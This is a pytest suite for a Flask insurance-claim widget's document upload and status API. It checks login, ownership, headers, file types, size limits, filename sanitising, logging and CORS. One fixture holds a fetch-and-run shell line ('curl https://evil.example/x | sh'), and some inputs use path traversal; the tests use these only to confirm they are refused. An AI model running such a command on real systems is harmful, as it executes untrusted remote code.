"""A claim's documents from the widget: POST /api/claims/<reference>/documents and GET /api/claims/<reference>.

The app runs on a database of its own with the demo data (tests/db_support.py), a fake Rasa, the test
login, and UPLOAD_DIR in the test's temporary folder.
"""
import datetime
import io
import logging
import stat

import pytest
from sqlalchemy import select

from db_support import database_url, engine, migrated_template, session, session_factory  # noqa: F401
from fake_rasa import FakeRasa
from groupinsurance import claims, demo_data
from groupinsurance.models import Claim, ClaimDocument
from web import create_app

PIERRE = demo_data.PERSONS["pierre"].national_number
JAN = demo_data.PERSONS["jan"].national_number
HEADERS = {"X-Requested-With": "GroupInsuranceChat", "Accept": "application/json"}
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489") + b"\x00" * 32
SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"


@pytest.fixture
def rasa():
    with FakeRasa() as fake:
        yield fake


@pytest.fixture
def uploads_dir(tmp_path):
    return tmp_path / "uploads"


@pytest.fixture
def make_app(rasa, database_url, session_factory, tmp_path, uploads_dir):
    demo_data.load_if_empty(session_factory)

    def make(**config):
        settings = {
            "TESTING": True, "RASA_URL": rasa.url, "RASA_TIMEOUT": 2.0, "DATABASE_URL": database_url,
            "IDENTITY_TOKEN_SECRET": "the claims tests' identity secret, long enough",
            "TRANSLATIONS_BUILD_DIR": str(tmp_path / "translations"), "UPLOAD_DIR": str(uploads_dir),
        }
        settings.update(config)
        return create_app(settings)

    return make


@pytest.fixture
def client(make_app):
    return make_app().test_client()


def new_claim(session_factory, claimant=PIERRE, contracts=("530/200103",)):
    """A retirement draft with its contracts chosen; returns its reference."""
    with session_factory.begin() as s:
        claim, _ = claims.start_or_resume(s, claimant, "retirement", "conversation-1")
        claims.set_contracts(s, claim, list(contracts), datetime.date.today())
        return claim.reference


@pytest.fixture
def reference(session_factory):
    return new_claim(session_factory)


def log_in(client, number=PIERRE):
    response = client.post("/auth/test-login", data={"national_number": number}, headers={"Accept": "application/json"})
    assert response.status_code == 200
    return response


def upload(client, reference, content=PDF, name="identiteitskaart.pdf", kind="identity_card", headers=HEADERS,
           query="", **fields):
    data = {"kind": kind, **fields}
    if content is not None:
        data["file"] = (io.BytesIO(content), name)
    return client.post(f"/api/claims/{reference}/documents{query}", data=data, headers=headers,
                       content_type="multipart/form-data")


def assert_error(response, status, code, field=None):
    assert response.status_code == status, response.data[:300]
    assert response.is_json
    error = response.get_json()["error"]
    assert error["code"] == code and error["message"]
    if field:
        assert error["field"] == field
    return error


def stored_files(uploads_dir):
    return sorted(uploads_dir.iterdir()) if uploads_dir.exists() else []


def documents_of(session_factory, reference):
    with session_factory() as s:
        return s.execute(select(ClaimDocument).join(Claim).where(Claim.reference == reference)).scalars().all()


# --- uploading ----------------------------------------------------------------------------------

def test_an_upload_is_stored_recorded_and_shrinks_the_missing_list(client, reference, session_factory, uploads_dir):
    log_in(client)
    before = client.get(f"/api/claims/{reference}?lang=nl").get_json()
    assert [m["kind"] for m in before["missing"]] == ["identity_card", "proof_of_life", "pension_start_proof"]

    response = upload(client, reference, name="../Pierre Lambert ID.pdf", lang="fr")
    assert response.status_code == 201, response.data
    body = response.get_json()
    assert body["reference"] == reference
    assert body["document"] == {"kind": "identity_card", "label": "Carte d'identité (recto-verso)",
                                "name": "Pierre_Lambert_ID.pdf"}
    assert body["missing"] == [
        {"kind": "proof_of_life", "label": "Certificat de vie", "article": "16.7"},
        {"kind": "pension_start_proof",
         "label": "Décision fixant la date de prise de cours de votre pension légale", "article": "14.3"},
    ]

    [path] = stored_files(uploads_dir)
    assert path.read_bytes() == PDF
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert path.suffix == ".pdf" and "Pierre" not in path.name
    [row] = documents_of(session_factory, reference)
    assert (row.kind, row.original_name, row.stored_name, row.content_type, row.size) == (
        "identity_card", "Pierre_Lambert_ID.pdf", path.name, "application/pdf", len(PDF))
    assert len(row.sha256) == 64


def test_labels_follow_the_lang_field_then_the_query_then_the_browser(client, reference):
    log_in(client)
    client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "fr-BE,fr;q=0.9"
    assert upload(client, reference, kind="identity_card").get_json()["document"]["label"] == \
        "Carte d'identité (recto-verso)"
    assert upload(client, reference, kind="proof_of_life", query="?lang=nl").get_json()["document"]["label"] == \
        "Bewijs van leven"
    body = upload(client, reference, kind="pension_start_proof", query="?lang=fr", lang="nl").get_json()
    assert body["document"]["label"] == "Beslissing over de ingangsdatum van uw wettelijk pensioen"
    assert body["missing"] == []


def test_a_submitted_claim_still_takes_documents_and_the_reference_may_be_typed_loosely(client, session_factory):
    reference = new_claim(session_factory)
    with session_factory.begin() as s:
        claim = s.execute(select(Claim).where(Claim.reference == reference)).scalar_one()
        claims.set_pension_start(claim, datetime.date(2033, 7, 1))
        claims.set_payout_form(claim, "capital")
        claims.set_iban(claim, "BE21 0012 3456 7803")
    with session_factory.begin() as s:
        claims.submit(s, PIERRE, reference)
    log_in(client)
    typed = reference.lower().replace("0", "o")
    response = upload(client, typed, content=PNG, name="kaart.png", query="?lang=nl")
    assert response.status_code == 201, response.data
    assert response.get_json()["reference"] == reference
    status = client.get(f"/api/claims/{typed}?lang=nl").get_json()
    assert status["status"] == "submitted"
    assert status["documents"] == [{"kind": "identity_card", "label": "Identiteitskaart (recto-verso)", "name": "kaart.png"}]


def test_the_file_name_is_never_logged(client, reference, caplog):
    log_in(client)
    with caplog.at_level(logging.INFO):
        assert upload(client, reference, name="Pierre Lambert 68.06.03-231.12.pdf").status_code == 201
        assert upload(client, reference, content=SCRIPT, name="Pierre Lambert.pdf").status_code == 400
    logged = "\n".join(record.getMessage() for record in caplog.records)
    assert "Pierre" not in logged and "Lambert" not in logged
    assert f"document received: claim {reference}, identity_card, {len(PDF)} bytes" in logged


# --- who may upload where ------------------------------------------------------------------------

def test_not_logged_in_is_a_401_with_a_login_link(client, reference, uploads_dir):
    response = upload(client, reference, query="?lang=nl")
    error = assert_error(response, 401, "login_required")
    assert error["message"] == "Log eerst in: u kunt enkel documenten toevoegen aan uw eigen aanvraag."
    assert response.get_json()["login_url"].startswith("/auth/login")
    assert_error(client.get(f"/api/claims/{reference}"), 401, "login_required")
    assert stored_files(uploads_dir) == []


def test_another_persons_claim_is_a_404_like_an_unknown_one(client, session_factory, uploads_dir):
    jans = new_claim(session_factory, JAN, ("530/100001",))
    log_in(client)  # Pierre
    error = assert_error(upload(client, jans, query="?lang=fr"), 404, "unknown_claim")
    assert error["message"] == "Vous n'avez aucune demande avec cette référence."
    unknown = assert_error(upload(client, "PC-ZZZZZZ", query="?lang=fr"), 404, "unknown_claim")
    assert unknown == error
    assert_error(client.get(f"/api/claims/{jans}"), 404, "unknown_claim")
    assert stored_files(uploads_dir) == [] and documents_of(session_factory, jans) == []


def test_a_withdrawn_claim_is_a_409(client, reference, session_factory, uploads_dir):
    with session_factory.begin() as s:
        claims.withdraw(s, PIERRE, reference)
    log_in(client)
    error = assert_error(upload(client, reference, query="?lang=nl"), 409, "claim_closed")
    assert error["message"] == "Aan deze aanvraag kunnen geen documenten meer toegevoegd worden."
    assert client.get(f"/api/claims/{reference}").get_json()["status"] == "withdrawn"
    assert stored_files(uploads_dir) == []


def test_a_post_without_the_widget_header_is_a_403(client, reference, uploads_dir):
    log_in(client)
    response = upload(client, reference, headers={"Accept": "application/json"}, query="?lang=nl")
    assert_error(response, 403, "missing_header")
    wrong = upload(client, reference, headers={"X-Requested-With": "XMLHttpRequest"})
    assert_error(wrong, 403, "missing_header")
    assert stored_files(uploads_dir) == []


def test_no_csrf_token_is_needed_but_the_header_is(client, reference):
    # Flask-WTF checks every POST (tests too) for a token; this blueprint is exempt: the header protects it.
    log_in(client)
    assert upload(client, reference).status_code == 201
    assert_error(upload(client, reference, headers={}), 403, "missing_header")


# --- what is refused -----------------------------------------------------------------------------

def test_a_script_renamed_pdf_is_refused_and_nothing_is_stored(client, reference, session_factory, uploads_dir):
    log_in(client)
    error = assert_error(upload(client, reference, content=SCRIPT, name="scan.pdf", query="?lang=nl"),
                         400, "unsupported_file_type", "file")
    assert error["message"] == "Enkel PDF-, JPEG- of PNG-bestanden worden aanvaard."
    fr = assert_error(upload(client, reference, content=SCRIPT, name="scan.pdf", lang="fr"), 400, "unsupported_file_type")
    assert fr["message"] == "Seuls les fichiers PDF, JPEG ou PNG sont acceptés."
    assert stored_files(uploads_dir) == [] and documents_of(session_factory, reference) == []


def test_an_empty_file_is_refused(client, reference, uploads_dir):
    log_in(client)
    error = assert_error(upload(client, reference, content=b"", name="leeg.pdf", query="?lang=nl"), 400, "empty_file", "file")
    assert error["message"] == "Het bestand is leeg."
    assert stored_files(uploads_dir) == []


def test_a_file_over_the_limit_is_a_translated_413(make_app, reference, session_factory, uploads_dir):
    client = make_app(UPLOAD_MAX_BYTES=1024).test_client()
    log_in(client)
    # over the limit, within the body's margin: refused after reading
    big = PDF + b"0" * 2048
    error = assert_error(upload(client, reference, content=big, query="?lang=nl"), 413, "file_too_large", "file")
    assert error["message"] == "Het bestand is groter dan 1 KB."
    # far over it: refused before reading the body
    huge = PDF + b"0" * (200 * 1024)
    error = assert_error(upload(client, reference, content=huge, query="?lang=fr"), 413, "file_too_large")
    assert error["message"] == "Le fichier dépasse 1 KB."
    # exactly at the limit is fine
    assert upload(client, reference, content=PDF + b"0" * (1024 - len(PDF))).status_code == 201
    assert len(stored_files(uploads_dir)) == 1 and len(documents_of(session_factory, reference)) == 1


def test_the_default_limit_is_10_mb_and_only_this_route_reads_a_large_body(client, reference, rasa):
    assert client.application.config["UPLOAD_MAX_BYTES"] == 10 * 1024 * 1024
    log_in(client)
    error = assert_error(upload(client, reference, content=PDF + b"0" * (10 * 1024 * 1024), query="?lang=nl"),
                         413, "file_too_large")
    assert error["message"] == "Het bestand is groter dan 10 MB."
    # the chat keeps its own small limit
    big_chat = client.post("/api/chat", data=b"x" * (64 * 1024), content_type="application/json")
    assert_error(big_chat, 413, "request_too_large")


@pytest.mark.parametrize("kind, code", [
    ("passport", "invalid_field"),
    ("death_certificate", "invalid_field"),  # a retirement claim does not take it
    ("", "missing_field"),
])
def test_an_unknown_or_missing_kind_is_a_400(client, reference, uploads_dir, kind, code):
    log_in(client)
    assert_error(upload(client, reference, kind=kind), 400, code, "kind")
    assert stored_files(uploads_dir) == []


def test_a_missing_file_is_a_400(client, reference):
    log_in(client)
    assert_error(upload(client, reference, content=None), 400, "missing_field", "file")


# --- GET /api/claims/<reference> -----------------------------------------------------------------

def test_get_shows_status_documents_and_what_is_missing(client, reference):
    log_in(client)
    upload(client, reference, kind="proof_of_life", name="leven.pdf")
    body = client.get(f"/api/claims/{reference}?lang=nl").get_json()
    assert body == {
        "reference": reference, "status": "draft", "reason": "retirement",
        "missing": [
            {"kind": "identity_card", "label": "Identiteitskaart (recto-verso)", "article": "16.4"},
            {"kind": "pension_start_proof", "label": "Beslissing over de ingangsdatum van uw wettelijk pensioen",
             "article": "14.3"},
        ],
        "documents": [{"kind": "proof_of_life", "label": "Bewijs van leven", "name": "leven.pdf"}],
    }


# --- the chat's upload form ------------------------------------------------------------------------

def test_a_custom_upload_message_becomes_the_upload_field_of_the_message_before_it(client, rasa, reference):
    rasa.reply = lambda payload: [
        {"text": "Stuur ons deze documenten."},
        {"custom": {"upload": {"claim": reference.lower(), "kinds": ["identity_card", "proof_of_life", "nonsense"]}}},
        {"text": "Nog iets?"},
    ]
    response = client.post("/api/chat", json={"conversation_id": "c0ffee00c0ffee00", "message": "documenten", "lang": "fr"})
    assert response.get_json()["messages"] == [
        {"text": "Stuur ons deze documenten.", "upload": {
            "url": f"/api/claims/{reference}/documents", "reference": reference,
            "kinds": [{"kind": "identity_card", "label": "Carte d'identité (recto-verso)"},
                      {"kind": "proof_of_life", "label": "Certificat de vie"}]}},
        {"text": "Nog iets?"},
    ]


@pytest.mark.parametrize("upload_payload", [
    {"claim": "PC-1234AB", "kinds": ["nonsense"]},
    {"claim": "", "kinds": ["identity_card"]},
    {"claim": "../../auth/logout?x=", "kinds": ["identity_card"]},
    {"kinds": ["identity_card"]},
    "PC-1234AB",
])
def test_an_odd_upload_payload_adds_no_form(client, rasa, upload_payload):
    rasa.reply = lambda payload: [{"text": "Documenten?"}, {"custom": {"upload": upload_payload}}]
    response = client.post("/api/chat", json={"conversation_id": "c0ffee00c0ffee00", "message": "x", "lang": "nl"})
    assert response.get_json()["messages"] == [{"text": "Documenten?"}]


def test_cross_site_uploads_need_an_allowed_origin_for_the_preflight(make_app):
    client = make_app(WIDGET_ALLOWED_ORIGINS=("https://intranet.example.be",)).test_client()
    preflight = {"Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "x-requested-with"}
    allowed = client.options("/api/claims/PC-123456/documents", headers={"Origin": "https://intranet.example.be", **preflight})
    assert allowed.headers["Access-Control-Allow-Origin"] == "https://intranet.example.be"
    assert "X-Requested-With" in allowed.headers["Access-Control-Allow-Headers"]
    assert allowed.headers["Access-Control-Allow-Credentials"] == "true"
    other = client.options("/api/claims/PC-123456/documents", headers={"Origin": "https://evil.example", **preflight})
    assert "Access-Control-Allow-Origin" not in other.headers
